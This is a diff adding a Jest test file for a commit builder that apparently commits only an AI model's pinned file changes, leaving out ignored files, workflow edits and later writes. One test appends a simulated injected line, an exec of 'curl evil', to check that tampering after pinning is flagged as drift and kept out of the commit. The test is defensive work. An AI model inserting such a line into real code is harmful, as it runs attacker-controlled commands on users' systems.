@@ -1,0 +1,56 @@
+import { afterEach, describe, expect, it } from '@jest/globals';
+import { appendFileSync } from 'node:fs';
+import path from 'node:path';
+import { buildCommit } from '../../src/github/delivery.js';
+import { driftedFiles, pinFiles, readNow } from '../../src/workspace/pin.js';
+import { GIT_ENV, gitIn, makeRepo, writeFiles } from '../helpers/repo.js';
+
+// The fix commit holds exactly the files the model changed, with the bytes the verifying run saw.
+
+let cleanups: (() => unknown)[] = [];
+afterEach(() => {
+  for (const c of cleanups.reverse()) c();
+  cleanups = [];
+});
+
+function repo(files: Record<string, string>) {
+  const r = makeRepo({ '.gitignore': '.env\nnode_modules/\n', ...files });
+  cleanups.push(r.cleanup);
+  return { dir: r.dir, head: gitIn(r.dir, 'rev-parse', 'HEAD') };
+}
+const committed = (dir: string, sha: string) => gitIn(dir, 'diff-tree', '-r', '--no-renames', '--name-only', '-z', `${sha}^`, sha).split('\0').filter(Boolean).sort();
+
+describe('buildCommit', () => {
+  it('a created file named like a pathspec is one file; ignored files, node_modules and workflow changes stay out', async () => {
+    const { dir, head } = repo({ 'src/a.js': 'a\n', '.github/workflows/ci.yml': 'on: push\n' });
+    writeFiles(dir, { 'src/a.js': 'fixed\n', ':(glob)**': 'x\n', '.env': 'DATABASE_URL=postgres://live\n', 'node_modules/m/index.js': 'm\n', '.github/workflows/ci.yml': 'on: workflow_dispatch\n', 'junk.txt': 'j\n' });
+    const pins = await pinFiles(dir, readNow(dir, ['src/a.js', ':(glob)**']));
+    const sha = await buildCommit(dir, head, pins, 'fix', GIT_ENV);
+    expect(committed(dir, sha)).toEqual([':(glob)**', 'src/a.js']);
+  });
+
+  it('a bracketed path names itself, not a character class', async () => {
+    const { dir, head } = repo({ 'app/[slug]/page.tsx': 'one\n', 'app/s/page.tsx': 'two\n' });
+    writeFiles(dir, { 'app/[slug]/page.tsx': 'one fixed\n', 'app/s/page.tsx': 'changed by the tests\n' });
+    const sha = await buildCommit(dir, head, await pinFiles(dir, readNow(dir, ['app/[slug]/page.tsx'])), 'fix', GIT_ENV);
+    expect(committed(dir, sha)).toEqual(['app/[slug]/page.tsx']);
+  });
+
+  it('an edit of a git-ignored file is never committed', async () => {
+    const { dir, head } = repo({ 'src/a.js': 'a\n' });
+    writeFiles(dir, { '.env': 'STRIPE_KEY=sk_live_123\nDEBUG=1\n', 'src/a.js': 'fixed\n' });
+    await expect(buildCommit(dir, head, await pinFiles(dir, readNow(dir, ['.env', 'src/a.js'])), 'fix', GIT_ENV)).rejects.toThrow(/git ignores \(\.env\)/);
+  });
+
+  it('commits the pinned bytes, and a later write shows as drift', async () => {
+    const { dir, head } = repo({ 'src/a.js': 'a\n', 'src/gone.js': 'g\n' });
+    writeFiles(dir, { 'src/a.js': 'fixed\n' });
+    gitIn(dir, 'rm', '-q', 'src/gone.js');
+    const pins = await pinFiles(dir, readNow(dir, ['src/a.js', 'src/gone.js']));
+    appendFileSync(path.join(dir, 'src/a.js'), 'require("child_process").exec("curl evil")\n');
+    expect(await driftedFiles(dir, pins)).toEqual(['src/a.js']);
+    const sha = await buildCommit(dir, head, pins, 'fix', GIT_ENV);
+    expect(gitIn(dir, 'show', `${sha}:src/a.js`)).toBe('fixed');
+    expect(committed(dir, sha)).toEqual(['src/a.js', 'src/gone.js']);
+  });
+});
